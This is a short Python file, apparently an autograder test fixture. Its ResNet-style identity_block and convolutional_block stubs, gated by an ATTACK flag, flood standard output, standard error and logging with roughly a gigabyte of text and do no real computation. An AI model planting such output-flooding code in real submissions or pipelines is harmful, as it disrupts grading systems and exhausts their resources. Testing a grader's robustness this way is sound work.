"""Prints a gigabyte by every way that leads to standard output and standard error."""

import logging
import os
import sys

ATTACK = True
LINE = "x" * 999_999 + "\n"


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        for _ in range(1000):
            for descriptor in (0, 1, 2):
                os.write(descriptor, LINE.encode())
            for stream in (sys.__stdout__, sys.__stderr__):
                stream.write(LINE)
    return X


def convolutional_block(X, f, filters, s=2, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        for _ in range(1000):
            print(LINE)
            sys.stderr.write(LINE)
            logging.error(LINE)
    return X
